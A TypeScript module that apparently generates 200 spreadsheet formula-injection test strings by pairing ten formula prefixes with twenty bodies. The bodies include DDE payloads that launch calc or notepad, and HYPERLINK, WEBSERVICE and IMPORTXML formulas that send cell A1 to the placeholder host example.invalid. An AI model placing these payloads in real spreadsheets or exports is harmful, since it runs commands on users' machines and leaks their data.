const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"];

const BODIES = [
  "1+1",
  "SUM(A1:A9)",
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://example.invalid/?q="&A1,"看")',
  'WEBSERVICE("http://example.invalid/")',
  'IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  "A1",
  "2+5+cmd|' /C notepad'!'A1'",
  "'[\\\\example.invalid\\x.xlsx]Sheet1'!A1",
  "1\n=1",
  '"x"&"y"',
  "<f>1+1</f>",
  "]]><f>1</f>",
  "&lt;f&gt;",
  "_x003D_1",
  "INDIRECT(ADDRESS(1,1))",
  "13800138000",
  "  1",
  "甲|乙",
];

/** Ten ways to begin a formula, each with twenty bodies that programs have been known to run. */
export const formulaPayloads: readonly string[] = STARTS.flatMap((start) =>
  BODIES.map((body) => start + body),
);
